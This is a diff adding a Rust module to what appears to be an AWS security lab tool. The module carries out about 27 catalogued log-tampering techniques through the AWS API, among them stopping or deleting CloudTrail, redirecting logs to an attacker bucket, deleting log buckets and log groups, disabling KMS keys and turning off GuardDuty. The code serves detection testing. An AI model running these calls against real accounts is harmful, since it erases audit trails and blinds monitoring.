@@ -1,0 +1,497 @@
+//! Tampering techniques of the catalog, performed against a lab account the way an attacker
+//! with a foothold would: through the AWS API, with the attacker's own role.
+
+use crate::{FLOW_LOG_GROUP, HOME_REGION, LOG_GROUP, LabAccount, LabError, METRIC_FILTER};
+use trailwarden_aws::AccountConfig;
+use trailwarden_aws::sdk::{cloudtrail, s3};
+
+/// A technique the lab can perform.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub struct Technique {
+    pub id: &'static str,
+    /// Tamper-catalog reference.
+    pub catalog: &'static str,
+    pub summary: &'static str,
+}
+
+macro_rules! techniques {
+    ($($id:literal, $cat:literal, $summary:literal;)*) => {
+        /// Every technique, in catalog order.
+        pub const TECHNIQUES: &[Technique] = &[$(Technique { id: $id, catalog: $cat, summary: $summary }),*];
+    };
+}
+
+techniques! {
+    "stop-logging", "A1", "StopLogging on the multi-region trail";
+    "delete-trail", "A2", "DeleteTrail on the multi-region trail";
+    "single-region", "A3", "UpdateTrail IsMultiRegionTrail=false";
+    "no-global-events", "A4", "UpdateTrail IncludeGlobalServiceEvents=false";
+    "redirect-bucket", "A5", "UpdateTrail to a bucket the attacker controls";
+    "attacker-kms-key", "A6", "UpdateTrail KmsKeyId to a key the attacker created";
+    "validation-off", "A7", "UpdateTrail EnableLogFileValidation=false";
+    "detach-cloudwatch", "A8", "UpdateTrail without CloudWatch Logs delivery";
+    "minimize", "A10", "Pacu's minimize: single-region, no global events, validation off, no KMS, no CloudWatch Logs";
+    "exclude-management-events", "A11", "PutEventSelectors: no management events, read-only S3 data events";
+    "read-only-management", "A11", "PutEventSelectors: management events ReadOnly";
+    "unexpected-trail", "A15", "CreateTrail delivering to an attacker bucket";
+    "delete-bucket", "B1", "DeleteBucket on the log bucket";
+    "bucket-policy-deny", "B2", "PutBucketPolicy denying CloudTrail";
+    "lifecycle-expiration", "B3", "PutBucketLifecycleConfiguration expiring logs after 1 day";
+    "bucket-notification", "B4", "PutBucketNotificationConfiguration to an attacker Lambda";
+    "suspend-versioning", "B6", "PutBucketVersioning Suspended";
+    "disable-key", "C1", "DisableKey on the trail's key";
+    "schedule-key-deletion", "C1", "ScheduleKeyDeletion (7 days) on the trail's key";
+    "key-policy", "C2", "PutKeyPolicy removing CloudTrail's access";
+    "delete-log-group", "D1", "DeleteLogGroup on the trail's log group";
+    "shorten-retention", "D2", "PutRetentionPolicy 1 day on the trail's log group";
+    "delete-metric-filter", "D3", "DeleteMetricFilter on the trail's log group";
+    "disable-guardduty", "E1", "UpdateDetector Enable=false";
+    "delete-guardduty", "E1", "DeleteDetector";
+    "stop-config", "E5", "StopConfigurationRecorder";
+    "delete-flow-logs", "F1", "DeleteFlowLogs on the VPC";
+}
+
+/// Looks a technique up by id.
+pub fn technique(id: &str) -> Option<&'static Technique> {
+    TECHNIQUES.iter().find(|t| t.id == id)
+}
+
+fn fail(account: &str, what: &str, e: impl std::fmt::Display) -> LabError {
+    LabError::Seed {
+        account: account.to_owned(),
+        what: format!("attack {what}"),
+        message: e.to_string(),
+    }
+}
+
+macro_rules! call {
+    ($account:expr, $what:literal, $fut:expr) => {
+        $fut.await.map_err(|e| {
+            fail(
+                $account,
+                $what,
+                trailwarden_aws::sdk::sts::error::DisplayErrorContext(e),
+            )
+        })?
+    };
+}
+
+const TRAIL: &str = "management-events";
+
+/// Performs `id` against `target` with the attacker's clients; returns what was done.
+pub async fn perform(
+    id: &str,
+    attacker: &AccountConfig,
+    target: &LabAccount,
+) -> Result<String, LabError> {
+    let a = target.id.as_str();
+    let ct = attacker.cloudtrail(HOME_REGION);
+    let s3c = attacker.s3(HOME_REGION);
+    let bucket = target.bucket.clone().unwrap_or_default();
+    let key = target.key_arn.clone().unwrap_or_default();
+    // moto wants the bare key id for some calls (DESIGN.md); AWS takes either.
+    let key_id = key.rsplit('/').next().unwrap_or_default().to_owned();
+    let attacker_bucket = format!("exfil-{a}-logs");
+    match id {
+        "stop-logging" => {
+            call!(a, "StopLogging", ct.stop_logging().name(TRAIL).send());
+        }
+        "delete-trail" => {
+            call!(a, "DeleteTrail", ct.delete_trail().name(TRAIL).send());
+        }
+        "single-region" => {
+            call!(
+                a,
+                "UpdateTrail",
+                ct.update_trail()
+                    .name(TRAIL)
+                    .is_multi_region_trail(false)
+                    .send()
+            );
+        }
+        "no-global-events" => {
+            call!(
+                a,
+                "UpdateTrail",
+                ct.update_trail()
+                    .name(TRAIL)
+                    .include_global_service_events(false)
+                    .send()
+            );
+        }
+        "redirect-bucket" | "unexpected-trail" => {
+            call!(
+                a,
+                "CreateBucket",
+                s3c.create_bucket().bucket(&attacker_bucket).send()
+            );
+            call!(
+                a,
+                "PutBucketPolicy",
+                s3c.put_bucket_policy()
+                    .bucket(&attacker_bucket)
+                    .policy(crate::cloudtrail_bucket_policy(
+                        &attacker_bucket,
+                        a,
+                        &[format!("arn:aws:cloudtrail:{HOME_REGION}:{a}:trail/*")]
+                    ))
+                    .send()
+            );
+            if id == "redirect-bucket" {
+                call!(
+                    a,
+                    "UpdateTrail",
+                    ct.update_trail()
+                        .name(TRAIL)
+                        .s3_bucket_name(&attacker_bucket)
+                        .send()
+                );
+            } else {
+                call!(
+                    a,
+                    "CreateTrail",
+                    ct.create_trail()
+                        .name("backup-trail")
+                        .s3_bucket_name(&attacker_bucket)
+                        .send()
+                );
+                call!(
+                    a,
+                    "StartLogging",
+                    ct.start_logging().name("backup-trail").send()
+                );
+            }
+        }
+        "attacker-kms-key" => {
+            let kms = attacker.kms(HOME_REGION);
+            let k = call!(
+                a,
+                "CreateKey",
+                kms.create_key().description("not yours").send()
+            );
+            let arn = k
+                .key_metadata()
+                .and_then(|m| m.arn())
+                .unwrap_or_default()
+                .to_owned();
+            call!(
+                a,
+                "UpdateTrail",
+                ct.update_trail().name(TRAIL).kms_key_id(arn).send()
+            );
+        }
+        "validation-off" => {
+            call!(
+                a,
+                "UpdateTrail",
+                ct.update_trail()
+                    .name(TRAIL)
+                    .enable_log_file_validation(false)
+                    .send()
+            );
+        }
+        "detach-cloudwatch" => {
+            call!(
+                a,
+                "UpdateTrail",
+                ct.update_trail()
+                    .name(TRAIL)
+                    .cloud_watch_logs_log_group_arn("")
+                    .cloud_watch_logs_role_arn("")
+                    .send()
+            );
+        }
+        "minimize" => {
+            call!(
+                a,
+                "UpdateTrail",
+                ct.update_trail()
+                    .name(TRAIL)
+                    .is_multi_region_trail(false)
+                    .include_global_service_events(false)
+                    .enable_log_file_validation(false)
+                    .kms_key_id("")
+                    .cloud_watch_logs_log_group_arn("")
+                    .cloud_watch_logs_role_arn("")
+                    .send()
+            );
+        }
+        "exclude-management-events" | "read-only-management" => {
+            let selector = if id == "exclude-management-events" {
+                // Stratus cloudtrail-event-selectors.
+                cloudtrail::types::EventSelector::builder()
+                    .read_write_type(cloudtrail::types::ReadWriteType::ReadOnly)
+                    .include_management_events(false)
+                    .data_resources(
+                        cloudtrail::types::DataResource::builder()
+                            .r#type("AWS::S3::Object")
+                            .values("arn:aws:s3:::nothing-here/")
+                            .build(),
+                    )
+                    .build()
+            } else {
+                cloudtrail::types::EventSelector::builder()
+                    .read_write_type(cloudtrail::types::ReadWriteType::ReadOnly)
+                    .include_management_events(true)
+                    .build()
+            };
+            call!(
+                a,
+                "PutEventSelectors",
+                ct.put_event_selectors()
+                    .trail_name(TRAIL)
+                    .event_selectors(selector)
+                    .send()
+            );
+        }
+        "delete-bucket" => {
+            // `s3 rb --force`: empty it first (every version), then delete.
+            let versions = call!(
+                a,
+                "ListObjectVersions",
+                s3c.list_object_versions().bucket(&bucket).send()
+            );
+            for v in versions.versions() {
+                call!(
+                    a,
+                    "DeleteObject",
+                    s3c.delete_object()
+                        .bucket(&bucket)
+                        .key(v.key().unwrap_or_default())
+                        .set_version_id(v.version_id().map(str::to_owned))
+                        .send()
+                );
+            }
+            call!(
+                a,
+                "DeleteBucket",
+                s3c.delete_bucket().bucket(&bucket).send()
+            );
+        }
+        "bucket-policy-deny" => {
+            let policy = serde_json::json!({"Version": "2012-10-17", "Statement": [{
+                "Sid": "NoMoreLogs", "Effect": "Deny",
+                "Principal": {"Service": "cloudtrail.amazonaws.com"},
+                "Action": "s3:PutObject", "Resource": format!("arn:aws:s3:::{bucket}/*")
+            }]});
+            call!(
+                a,
+                "PutBucketPolicy",
+                s3c.put_bucket_policy()
+                    .bucket(&bucket)
+                    .policy(policy.to_string())
+                    .send()
+            );
+        }
+        "lifecycle-expiration" => {
+            let rule = s3::types::LifecycleRule::builder()
+                .id("cleanup")
+                .status(s3::types::ExpirationStatus::Enabled)
+                .filter(
+                    s3::types::LifecycleRuleFilter::builder()
+                        .prefix("AWSLogs/")
+                        .build(),
+                )
+                .expiration(s3::types::LifecycleExpiration::builder().days(1).build())
+                .build()
+                .map_err(|e| fail(a, "rule", e))?;
+            // A put replaces the configuration: the attacker keeps the existing rule to look benign.
+            let keep = call!(
+                a,
+                "GetLifecycleConfiguration",
+                s3c.get_bucket_lifecycle_configuration()
+                    .bucket(&bucket)
+                    .send()
+            );
+            let mut rules = keep.rules().to_vec();
+            rules.push(rule);
+            call!(
+                a,
+                "PutLifecycleConfiguration",
+                s3c.put_bucket_lifecycle_configuration()
+                    .bucket(&bucket)
+                    .lifecycle_configuration(
+                        s3::types::BucketLifecycleConfiguration::builder()
+                            .set_rules(Some(rules))
+                            .build()
+                            .map_err(|e| fail(a, "lifecycle", e))?
+                    )
+                    .send()
+            );
+        }
+        "bucket-notification" => {
+            let lambda = s3::types::LambdaFunctionConfiguration::builder()
+                .lambda_function_arn(format!(
+                    "arn:aws:lambda:{HOME_REGION}:{a}:function:log-scrubber"
+                ))
+                .events(s3::types::Event::S3ObjectCreated)
+                .build()
+                .map_err(|e| fail(a, "notification", e))?;
+            call!(
+                a,
+                "PutBucketNotificationConfiguration",
+                s3c.put_bucket_notification_configuration()
+                    .bucket(&bucket)
+                    .notification_configuration(
+                        s3::types::NotificationConfiguration::builder()
+                            .lambda_function_configurations(lambda)
+                            .build()
+                    )
+                    .send()
+            );
+        }
+        "suspend-versioning" => {
+            call!(
+                a,
+                "PutBucketVersioning",
+                s3c.put_bucket_versioning()
+                    .bucket(&bucket)
+                    .versioning_configuration(
+                        s3::types::VersioningConfiguration::builder()
+                            .status(s3::types::BucketVersioningStatus::Suspended)
+                            .build()
+                    )
+                    .send()
+            );
+        }
+        "disable-key" => {
+            call!(
+                a,
+                "DisableKey",
+                attacker
+                    .kms(HOME_REGION)
+                    .disable_key()
+                    .key_id(&key_id)
+                    .send()
+            );
+        }
+        "schedule-key-deletion" => {
+            call!(
+                a,
+                "ScheduleKeyDeletion",
+                attacker
+                    .kms(HOME_REGION)
+                    .schedule_key_deletion()
+                    .key_id(&key_id)
+                    .pending_window_in_days(7)
+                    .send()
+            );
+        }
+        "key-policy" => {
+            let policy = serde_json::json!({"Version": "2012-10-17", "Statement": [{
+                "Sid": "OnlyMe", "Effect": "Allow",
+                "Principal": {"AWS": format!("arn:aws:iam::{a}:role/{}", crate::ATTACKER_ROLE)},
+                "Action": "kms:*", "Resource": "*"
+            }]});
+            call!(
+                a,
+                "PutKeyPolicy",
+                attacker
+                    .kms(HOME_REGION)
+                    .put_key_policy()
+                    .key_id(&key_id)
+                    .policy_name("default")
+                    .policy(policy.to_string())
+                    .send()
+            );
+        }
+        "delete-log-group" => {
+            call!(
+                a,
+                "DeleteLogGroup",
+                attacker
+                    .logs(HOME_REGION)
+                    .delete_log_group()
+                    .log_group_name(LOG_GROUP)
+                    .send()
+            );
+        }
+        "shorten-retention" => {
+            call!(
+                a,
+                "PutRetentionPolicy",
+                attacker
+                    .logs(HOME_REGION)
+                    .put_retention_policy()
+                    .log_group_name(LOG_GROUP)
+                    .retention_in_days(1)
+                    .send()
+            );
+        }
+        "delete-metric-filter" => {
+            call!(
+                a,
+                "DeleteMetricFilter",
+                attacker
+                    .logs(HOME_REGION)
+                    .delete_metric_filter()
+                    .log_group_name(LOG_GROUP)
+                    .filter_name(METRIC_FILTER)
+                    .send()
+            );
+        }
+        "disable-guardduty" => {
+            call!(
+                a,
+                "UpdateDetector",
+                attacker
+                    .guardduty(HOME_REGION)
+                    .update_detector()
+                    .detector_id(target.detector_id.clone().unwrap_or_default())
+                    .enable(false)
+                    .send()
+            );
+        }
+        "delete-guardduty" => {
+            call!(
+                a,
+                "DeleteDetector",
+                attacker
+                    .guardduty(HOME_REGION)
+                    .delete_detector()
+                    .detector_id(target.detector_id.clone().unwrap_or_default())
+                    .send()
+            );
+        }
+        "stop-config" => {
+            call!(
+                a,
+                "StopConfigurationRecorder",
+                attacker
+                    .config(HOME_REGION)
+                    .stop_configuration_recorder()
+                    .configuration_recorder_name("default")
+                    .send()
+            );
+        }
+        "delete-flow-logs" => {
+            let ec2c = attacker.ec2(HOME_REGION);
+            let flows = call!(a, "DescribeFlowLogs", ec2c.describe_flow_logs().send());
+            let ids: Vec<String> = flows
+                .flow_logs()
+                .iter()
+                .filter(|f| f.log_group_name() == Some(FLOW_LOG_GROUP))
+                .filter_map(|f| f.flow_log_id().map(str::to_owned))
+                .collect();
+            call!(
+                a,
+                "DeleteFlowLogs",
+                ec2c.delete_flow_logs().set_flow_log_ids(Some(ids)).send()
+            );
+        }
+        other => {
+            return Err(LabError::Seed {
+                account: a.to_owned(),
+                what: "attack".into(),
+                message: format!(
+                    "unknown technique '{other}' (see `trailwarden-lab attack --list`)"
+                ),
+            });
+        }
+    }
+    let t = technique(id).expect("listed");
+    Ok(format!(
+        "{} ({}): {} in account {a}",
+        t.id, t.catalog, t.summary
+    ))
+}
